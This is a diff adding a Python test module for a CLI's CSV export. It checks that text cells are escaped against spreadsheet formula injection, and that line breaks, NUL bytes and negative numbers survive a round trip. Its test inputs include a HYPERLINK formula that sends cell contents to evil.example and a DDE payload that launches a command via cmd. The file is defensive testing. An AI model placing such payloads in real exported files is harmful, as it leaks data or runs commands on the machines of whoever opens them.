@@ -1,0 +1,73 @@
+"""Studies under hostile conditions (issue 22, items 1-9), with real processes where the
+defect needs them: CSV cells that are not code and read back as written, a worker killed
+while it sends its result, concurrent runs on one --out, non-UTF-8 file names, sessions
+whose output directories would collide, the folder search's skipped entries, a bag whose
+metadata lies, a full disk, --jobs caps and the worker's memory."""
+from __future__ import annotations
+
+import csv
+import io
+
+import pandas as pd
+
+from test_analyze_cli import ep_topic, run, session, write_bag
+from valence_ros.offline.csv_cells import FORMULA_TRIGGERS, csv_bytes, original_text, text_cell
+
+
+# ---------------------------------------------------------------------- items 6 and 7: CSV cells
+
+HOSTILE_TEXT = ["alice\rbob", "carol\ndave", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+                "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tlead-tab", "\rlead-cr",
+                "'already quoted", "a,b;c", 'say "hi"', " padded ", "\uff1dSUM(1)", "\0nul"]
+ORDINARY_TEXT = ["alice", "face 7", "-1", "+3", "-0.125", "1e-3", "", "p01/rec", "José", "a-b", "x=y"]
+
+
+def _read_back(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode(), newline="")))
+
+
+def test_text_cells_are_no_formulas_and_read_back_exactly():
+    rows = [[text, -0.5, 3, None, "-0.250000000"] for text in HOSTILE_TEXT + ORDINARY_TEXT]
+    data = csv_bytes(rows, header=["face_id", "x", "n", "none", "fmt"])
+    back = _read_back(data)
+    assert back[0] == ["face_id", "x", "n", "none", "fmt"] and len(back) == len(rows) + 1
+    for (text, *_), got in zip(rows, back[1:]):
+        cell = got[0]
+        lead = cell.lstrip(" ")[:1]
+        assert not (lead in FORMULA_TRIGGERS and cell not in ORDINARY_TEXT), repr(cell)  # never a formula
+        assert original_text(cell) == text.replace("\0", "\ufffd")   # NUL ends a cell for pandas and R
+        assert got[1:] == ["-0.5", "3", "", "-0.250000000"]    # numbers are numbers, never neutralised
+    for text in ORDINARY_TEXT:       # ordinary names and numbers are written as they are
+        assert text_cell(text) == text
+    assert text_cell("=1+1") == "'=1+1" and text_cell("alice\rbob") == '"alice\rbob"'
+    # pandas reads as many rows as were written, with the same text
+    frame = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
+    assert [original_text(c) for c in frame["face_id"]] == [r[0].replace("\0", "\ufffd") for r in rows]
+
+
+def test_study_csvs_keep_rows_and_neutralise_formulas(tmp_path, capsys):
+    data = tmp_path / "data"
+    data.mkdir()
+    faces = ("alice\rbob", "=HYPERLINK(\"http://evil.example\",\"x\")", "-1", "plain")
+    write_bag(data / "=HYPERLINK(\"http:__evil\")", "mcap",
+              {"/emotion_probabilities": ep_topic(session(40, faces=faces))})
+    write_bag(data / "p02", "sqlite3", {"/emotion_probabilities": ep_topic(session(30, faces=("-0.5",)))})
+    out = tmp_path / "o"
+    code, _, stderr = run([data, "--out", out, "-q", "--jobs", "1", "--no-plots"], capsys)
+    assert code == 0, stderr
+    hostile_session = "=HYPERLINK(\"http:__evil\")"
+    sessions = pd.read_csv(out / "sessions.csv", dtype=str, keep_default_na=False)
+    assert len(sessions) == len(faces) + 1       # a bare CR used to split a row: pandas read a session "bob"
+    got = sorted(zip(map(original_text, sessions["session"]), map(original_text, sessions["face_id"])))
+    assert got == sorted([(hostile_session, f) for f in faces] + [("p02", "-0.5")])
+    assert sessions["session"].str.startswith("'=").sum() == len(faces)
+    assert not sessions["face_id"].str.startswith("=").any()
+    assert "-1" in set(sessions["face_id"]) and "-0.5" in set(sessions["face_id"])   # numbers stay numbers
+    assert (sessions["valence_min"].astype(float) < 0).any()   # and so do negative values
+    episodes = pd.read_csv(out / "episodes.csv", dtype=str, keep_default_na=False)
+    assert set(map(original_text, episodes["face_id"])) == set(faces) | {"-0.5"}
+    assert not episodes["session"].str.startswith("=").any()
+    per_input = pd.read_csv(out / f"{hostile_session}_valence" / "valence.csv", dtype=str, keep_default_na=False)
+    assert len(per_input) == 40 * len(faces)
+    assert set(map(original_text, per_input["face_id"])) == set(faces)
+    assert not per_input["face_id"].str.startswith("=").any()
